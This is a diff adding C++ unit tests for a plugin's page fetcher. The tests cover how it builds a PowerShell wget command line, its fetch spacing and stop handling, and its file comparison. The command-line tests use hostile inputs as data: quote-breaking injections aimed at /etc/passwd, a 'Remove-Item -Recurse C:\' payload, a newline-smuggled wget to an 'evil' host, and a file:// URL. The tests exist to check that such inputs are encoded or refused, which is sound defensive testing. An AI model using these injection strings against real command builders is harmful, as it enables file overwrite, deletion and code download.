@@ -1,0 +1,372 @@
+// The page fetcher on the fake host: spacing, settling, responsiveness while
+// a command runs, stop; the command line against hostile input; the waiting
+// and comparing helpers.
+#include <cstdint>
+#include <filesystem>
+#include <limits>
+#include <stdexcept>
+#include <string>
+#include <vector>
+
+#include <gtest/gtest.h>
+
+#include "harvest/fetch.h"
+#include "platform/cmdline.h"
+#include "platform/platform.h"
+#include "platform/powershell_args.h"
+#include "platform/scratch_folder.h"
+#include "shell/form_dll.h"
+#include "support/fake_run_host.h"
+#include "support/fake_view.h"
+
+namespace kivo {
+namespace {
+
+using kivo::testing::FakeRunHost;
+using kivo::testing::FakeView;
+using kivo::testing::ScratchFolder;
+
+constexpr char kListing[] =
+    "https://www.kivo.co.jp/bec/SE/Genre?dcode=01&ccode=01&taishongpi=20261207"
+    "&Genre_id=010100&listcnt=1";
+
+// ---- The command line -------------------------------------------------------
+
+TEST(BuildFetchCommandLine, OrdinaryAddressesAsTheHelperExpects) {
+  EXPECT_EQ(BuildFetchCommandLine(kListing, "C:\\Temp\\Getkivo.html"),
+            "powershell wget 'https://www.kivo.co.jp/bec/SE/Genre?dcode=01\"&\"ccode=01\"&\""
+            "taishongpi=20261207\"&\"Genre_id=010100\"&\"listcnt=1' -O 'C:\\Temp\\Getkivo.html'");
+  EXPECT_EQ(BuildFetchCommandLine("http://example.com/a?b=1&c=2", "/tmp/Getkivo2.html"),
+            "powershell wget 'http://example.com/a?b=1\"&\"c=2' -O '/tmp/Getkivo2.html'");
+  // Characters PowerShell or a URL might mind, but the line does not, pass.
+  EXPECT_EQ(BuildFetchCommandLine("HTTPS://x/%41;$(a)|b`c#d", "/t/f"),
+            "powershell wget 'HTTPS://x/%41;$(a)|b`c#d' -O '/t/f'");
+}
+
+TEST(BuildFetchCommandLine, SplitsIntoTheFiveWordsOfTheCommand) {
+  const auto words =
+      platform::SplitCommandLine(BuildFetchCommandLine(kListing, "C:\\Temp\\Getkivo.html"));
+  EXPECT_EQ(words, (std::vector<std::string>{"powershell", "wget",
+                                             std::string("'") + kListing + "'", "-O",
+                                             "'C:\\Temp\\Getkivo.html'"}));
+}
+
+TEST(BuildFetchCommandLine, EncodesWhatCouldBreakOutOfTheQuotes) {
+  EXPECT_EQ(BuildFetchCommandLine("https://x/a' -O '/etc/passwd", "/t/f"),
+            "powershell wget 'https://x/a%27%20-O%20%27/etc/passwd' -O '/t/f'");
+  EXPECT_EQ(BuildFetchCommandLine("https://x/\"a\\b\"\t\x7f\x01", "/t/f"),
+            "powershell wget 'https://x/%22a%5Cb%22%09%7F%01' -O '/t/f'");
+  // Shift-JIS "本" (96 7B) in an address: the lead byte is encoded, the
+  // second is plain ASCII; decoding gives the same two bytes.
+  EXPECT_EQ(BuildFetchCommandLine("https://x/?q=\x96\x7b\xe0\xa0", "/t/f"),
+            "powershell wget 'https://x/?q=%96{%E0%A0' -O '/t/f'");
+  // A run of "&" sits in one pair of double quotes.
+  EXPECT_EQ(BuildFetchCommandLine("https://x/?a&&b", "/t/f"),
+            "powershell wget 'https://x/?a\"&&\"b' -O '/t/f'");
+}
+
+TEST(BuildFetchCommandLine, HostileAddressesStayOneWord) {
+  const std::vector<std::string> hostile = {
+      "https://x/a' -O '/etc/passwd",
+      "https://x/a'; Remove-Item -Recurse C:\\ ; '",
+      "https://x/\" -O \"/etc/passwd",
+      "https://x/a\\\" -O /etc/passwd \\\"",
+      "https://x/a\"&\"b\"\"&\"\"'",
+      "https://x/&&&\"&'&\\&",
+      "https://x/\r\nwget 'http://evil/' -O '/tmp/x'",
+      "https://x/a'' -O ''b",
+  };
+  for (const std::string& address : hostile) {
+    SCOPED_TRACE(address);
+    const std::string line = BuildFetchCommandLine(address, "/tmp/Getkivo.html");
+    ASSERT_FALSE(line.empty());
+    const auto words = platform::SplitCommandLine(line);
+    ASSERT_EQ(words.size(), 5u);
+    EXPECT_EQ(words[1], "wget");
+    EXPECT_EQ(words[2].front(), '\'');
+    EXPECT_EQ(words[2].back(), '\'');
+    EXPECT_EQ(words[2].find('\'', 1), words[2].size() - 1);  // no quote inside
+    EXPECT_EQ(words[3], "-O");
+    EXPECT_EQ(words[4], "'/tmp/Getkivo.html'");
+  }
+}
+
+TEST(BuildFetchCommandLine, TheDownloadHelperReadsItBack) {
+  struct Case {
+    std::string address, path, read_address;
+  };
+  const std::vector<Case> cases = {
+      {kListing, "/tmp/Getkivo.html", kListing},
+      {"https://x/a' -O '/etc/passwd", "/tmp/it's here.html", "https://x/a%27%20-O%20%27/etc/passwd"},
+      {"https://x/?a&&b", "C:\\Documents and Settings\\\x95\x5c\\Getkivo2.html", "https://x/?a&&b"},
+  };
+  for (const Case& c : cases) {
+    SCOPED_TRACE(c.address);
+    const auto words = platform::SplitCommandLine(BuildFetchCommandLine(c.address, c.path));
+    ASSERT_GE(words.size(), 2u);
+    const std::string joined =
+        platform::JoinCommandWords(std::vector<std::string>(words.begin() + 1, words.end()));
+    platform::DownloadCommand command;
+    std::string error;
+    ASSERT_TRUE(platform::ParseDownloadCommand(joined, command, error)) << error;
+    EXPECT_EQ(command.address, c.read_address);
+    EXPECT_EQ(command.output_path, c.path);
+  }
+}
+
+TEST(BuildFetchCommandLine, RefusesWhatCannotBePassedSafely) {
+  EXPECT_EQ(BuildFetchCommandLine("", "/t/f"), "");
+  EXPECT_EQ(BuildFetchCommandLine("https://x/", ""), "");
+  EXPECT_EQ(BuildFetchCommandLine("ftp://x/", "/t/f"), "");
+  EXPECT_EQ(BuildFetchCommandLine("file:///etc/passwd", "/t/f"), "");
+  EXPECT_EQ(BuildFetchCommandLine("-O /etc/passwd https://x/", "/t/f"), "");
+  EXPECT_EQ(BuildFetchCommandLine("https:/x", "/t/f"), "");
+  EXPECT_EQ(BuildFetchCommandLine("https://x/", "/t/\"f"), "");
+  EXPECT_EQ(BuildFetchCommandLine("https://x/", "/t/f\n"), "");
+  EXPECT_EQ(BuildFetchCommandLine("https://x/", "/t/\tf"), "");
+  EXPECT_EQ(BuildFetchCommandLine("https://x/", "/t/a  b"), "");
+  EXPECT_EQ(BuildFetchCommandLine("https://x/", "/tmp/it's.html"),
+            "powershell wget 'https://x/' -O '/tmp/it''s.html'");
+}
+
+// ---- FetchPage ---------------------------------------------------------------
+
+class FetchPageTest : public ::testing::Test {
+ protected:
+  FetchPageTest() : form_(view_, host_, {}, "/opt/Host/Plugins/kivo") {
+    view_.Attach(form_);
+    file_ = dir_ / "Getkivo.html";
+    host_.process_ms = 300;
+  }
+  // Makes each started command write `body` into the output file.
+  void ServeBody(const std::string& body) {
+    host_.serve = [this, body](const std::string&) { ScratchFolder::Put(file_, body); };
+  }
+
+  ScratchFolder dir_;
+  FakeView view_;
+  FakeRunHost host_;
+  TFormDLL form_;
+  std::string file_;
+};
+
+TEST_F(FetchPageTest, FetchesIntoTheFileAndReturnsItsSize) {
+  ServeBody("<html>12345</html>");
+  EXPECT_EQ(form_.FetchPage(kListing, file_), 18);
+  ASSERT_EQ(host_.commands.size(), 1u);
+  EXPECT_EQ(host_.commands[0].command_line, BuildFetchCommandLine(kListing, file_));
+  EXPECT_EQ(host_.commands[0].working_folder, "/opt/Host/Plugins/");
+  // The first fetch after start-up does not wait.
+  EXPECT_EQ(host_.commands[0].started_ms, 0);
+  EXPECT_EQ(form_.FLastFetch, host_.Now() - (host_.now_ms / kMillisecondsPerDay));
+}
+
+TEST_F(FetchPageTest, SecondFetchKeepsNineHundredMillisecondsFromTheFirstStart) {
+  // The first fetch started 200 ms ago.
+  host_.now_ms = 5000;
+  form_.FLastFetch = host_.Now();
+  host_.now_ms = 5200;
+  form_.FetchPage(kListing, file_);
+  ASSERT_EQ(host_.commands.size(), 1u);
+  EXPECT_EQ(host_.commands[0].started_ms, 5900);
+  // The wait handled messages the whole time.
+  EXPECT_EQ(host_.zero_sleeps, 7 + 6);  // 7 spacing rounds, then the settling
+
+  // Fetches in a row stay at least 900 ms apart, start to start.
+  host_.process_ms = 0;
+  for (int i = 0; i < 3; ++i) form_.FetchPage(kListing, file_);
+  for (std::size_t i = 1; i < host_.commands.size(); ++i) {
+    EXPECT_GE(host_.commands[i].started_ms - host_.commands[i - 1].started_ms, 900);
+  }
+}
+
+TEST_F(FetchPageTest, SettlesForHalfASecondAfterTheCommand) {
+  host_.process_ms = 0;  // ended at the first look
+  form_.FetchPage(kListing, file_);
+  // One poll round (100 ms) and the settling: one pump, then five pumps each
+  // followed by 100 ms.
+  EXPECT_EQ(host_.slept_ms, 100 + 500);
+  EXPECT_EQ(host_.pumps, 1 + 6);
+}
+
+TEST_F(FetchPageTest, HandlesMessagesAtLeastEveryHundredMilliseconds) {
+  host_.process_ms = 2000;
+  std::vector<std::int64_t> pump_times;
+  host_.on_pump = [&] { pump_times.push_back(host_.now_ms); };
+  form_.FLastFetch = host_.Now();  // a spacing wait first
+  form_.FetchPage(kListing, file_);
+  ASSERT_EQ(host_.commands.size(), 1u);
+  const std::int64_t start = host_.commands[0].started_ms;
+  EXPECT_EQ(start, 900);
+  // During the spacing wait.
+  std::int64_t last = 0;
+  for (const std::int64_t t : pump_times) {
+    if (t >= start) break;
+    EXPECT_LE(t - last, 100);
+    last = t;
+  }
+  // From the command's start to the end of the settling.
+  last = start;
+  int while_running = 0;
+  for (const std::int64_t t : pump_times) {
+    if (t < start) continue;
+    EXPECT_LE(t - last, 100);
+    if (t <= start + host_.process_ms) ++while_running;
+    last = t;
+  }
+  EXPECT_EQ(while_running, 20);
+  EXPECT_EQ(host_.now_ms - last, 100);  // the last settling sleep
+}
+
+TEST_F(FetchPageTest, StopReturnsZeroWithoutAProcess) {
+  ServeBody("page");
+  ScratchFolder::Put(file_, "old");
+  const double last = form_.FLastFetch;
+  form_.FStopRequested = true;
+  EXPECT_EQ(form_.FetchPage(kListing, file_), 0);
+  EXPECT_TRUE(host_.commands.empty());
+  EXPECT_EQ(host_.now_ms, 0);
+  EXPECT_EQ(host_.pumps, 0);
+  EXPECT_EQ(form_.FLastFetch, last);
+}
+
+TEST_F(FetchPageTest, StopWhileTheCommandRunsWaitsForItsEnd) {
+  ServeBody("the page");
+  host_.process_ms = 1000;
+  host_.At(300, [&] { form_.FStopRequested = true; });
+  EXPECT_EQ(form_.FetchPage(kListing, file_), 8);
+  EXPECT_GE(host_.now_ms, 1000 + 500);
+  const std::int64_t after = host_.now_ms;
+  EXPECT_EQ(form_.FetchPage(kListing, file_), 0);
+  EXPECT_EQ(host_.commands.size(), 1u);
+  EXPECT_EQ(host_.now_ms, after);
+}
+
+TEST_F(FetchPageTest, CommandThatCannotStart) {
+  host_.can_start = false;
+  EXPECT_EQ(form_.FetchPage(kListing, file_), 0);
+  EXPECT_EQ(host_.commands.size(), 1u);
+  EXPECT_EQ(host_.slept_ms, 500);  // no waiting for a process, settling still
+  ScratchFolder::Put(file_, "left over");
+  EXPECT_EQ(form_.FetchPage(kListing, file_), 9);
+}
+
+TEST_F(FetchPageTest, AFileLeftFromBeforeCountsAndAnEmptyOneIsZero) {
+  ScratchFolder::Put(file_, "previous page");
+  EXPECT_EQ(form_.FetchPage(kListing, file_), 13);  // the command wrote nothing
+  ServeBody("");
+  EXPECT_EQ(form_.FetchPage(kListing, file_), 0);
+}
+
+TEST_F(FetchPageTest, UnsafeInputStartsNothingButStillMeasuresAndSettles) {
+  ScratchFolder::Put(file_, "previous page");
+  EXPECT_EQ(form_.FetchPage("javascript:alert(1)", file_), 13);
+  EXPECT_TRUE(host_.commands.empty());
+  EXPECT_EQ(host_.slept_ms, 500);
+  EXPECT_EQ(form_.FetchPage(kListing, dir_ / "bad\"name"), 0);
+  EXPECT_TRUE(host_.commands.empty());
+}
+
+TEST_F(FetchPageTest, HugeFileIsClampedToTheLargest32BitSize) {
+  ScratchFolder::Put(file_, "");
+  std::filesystem::resize_file(file_, std::uintmax_t{3} << 30);  // sparse, 3 GiB
+  EXPECT_EQ(form_.FetchPage(kListing, file_), std::numeric_limits<std::int32_t>::max());
+}
+
+TEST_F(FetchPageTest, ClockSetBackDoesNotHoldTheFetch) {
+  host_.now_ms = 10000;
+  form_.FLastFetch = host_.Now() + 3600.0 * 1000 / kMillisecondsPerDay;  // an hour ahead
+  form_.FetchPage(kListing, file_);
+  ASSERT_EQ(host_.commands.size(), 1u);
+  EXPECT_EQ(host_.commands[0].started_ms, 10900);
+}
+
+// ---- RunAndWait, WaitSeconds -----------------------------------------------------
+
+TEST(RunAndWait, PollsUntilTheCommandHasEnded) {
+  FakeRunHost host;
+  host.process_ms = 250;
+  RunAndWait(host, "powershell wget 'x' -O 'y'", 0);
+  ASSERT_EQ(host.commands.size(), 1u);
+  // Looks at 0, 100, 200 (running) and 300 (ended), each look followed by
+  // 100 ms and the message handling.
+  EXPECT_EQ(host.slept_ms, 400);
+  EXPECT_EQ(host.pumps, 4);
+  const std::string program = platform::ProgramPath();
+  EXPECT_EQ(host.commands[0].working_folder,
+            program.substr(0, program.rfind(platform::PathSeparator()) + 1));
+}
+
+TEST(RunAndWait, ReturnsAtOnceWhenTheCommandCannotStart) {
+  FakeRunHost host;
+  host.can_start = false;
+  RunAndWait(host, "no-such-program", 0);
+  EXPECT_EQ(host.slept_ms, 0);
+  EXPECT_EQ(host.pumps, 0);
+}
+
+TEST(WaitSeconds, TenMillisecondSlices) {
+  FakeRunHost host;
+  WaitSeconds(host, 1);
+  EXPECT_EQ(host.slept_ms, 1000);
+  EXPECT_EQ(host.pumps, 100);
+
+  FakeRunHost quick;
+  WaitSeconds(quick, 0.005);
+  WaitSeconds(quick, 0);
+  WaitSeconds(quick, -3);
+  EXPECT_EQ(quick.slept_ms, 0);
+  EXPECT_EQ(quick.pumps, 0);
+
+  FakeRunHost partial;
+  WaitSeconds(partial, 0.057);
+  EXPECT_EQ(partial.pumps, 5);
+}
+
+// ---- SameFileContents --------------------------------------------------------
+
+TEST(SameFileContents, ComparesWholeFiles) {
+  ScratchFolder dir;
+  const std::string a = dir / "a", b = dir / "b";
+  ScratchFolder::Put(a, "same bytes");
+  ScratchFolder::Put(b, "same bytes");
+  EXPECT_TRUE(SameFileContents(a, b));
+  ScratchFolder::Put(b, "same bytez");
+  EXPECT_FALSE(SameFileContents(a, b));
+  ScratchFolder::Put(b, "same bytes and more");
+  EXPECT_FALSE(SameFileContents(a, b));
+  EXPECT_FALSE(SameFileContents(b, a));
+  ScratchFolder::Put(a, "");
+  ScratchFolder::Put(b, "");
+  EXPECT_TRUE(SameFileContents(a, b));
+  EXPECT_FALSE(SameFileContents(a, dir / "missing"));
+  EXPECT_FALSE(SameFileContents(dir / "missing", a));
+  EXPECT_FALSE(SameFileContents(dir / "missing", dir / "missing"));
+  EXPECT_FALSE(SameFileContents(dir.path(), dir.path()));  // folders are no files
+}
+
+TEST(SameFileContents, LargeFilesDifferingInTheLastByte) {
+  ScratchFolder dir;
+  std::string page(300000, '\0');
+  for (std::size_t i = 0; i < page.size(); ++i) page[i] = static_cast<char>(i * 7 % 251);
+  ScratchFolder::Put(dir / "a", page);
+  ScratchFolder::Put(dir / "b", page);
+  EXPECT_TRUE(SameFileContents(dir / "a", dir / "b"));
+  page.back() = static_cast<char>(page.back() + 1);
+  ScratchFolder::Put(dir / "b", page);
+  EXPECT_FALSE(SameFileContents(dir / "a", dir / "b"));
+}
+
+#ifndef _WIN32
+TEST(SameFileContents, UnreadableFileIsAnError) {
+  ScratchFolder dir;
+  ScratchFolder::Put(dir / "empty", "");
+  // A regular file whose reading fails at once (even for root).
+  ASSERT_TRUE(platform::FileExists("/proc/self/mem"));
+  EXPECT_THROW(SameFileContents("/proc/self/mem", dir / "empty"), std::runtime_error);
+  EXPECT_THROW(SameFileContents(dir / "empty", "/proc/self/mem"), std::runtime_error);
+}
+#endif
+
+}  // namespace
+}  // namespace kivo
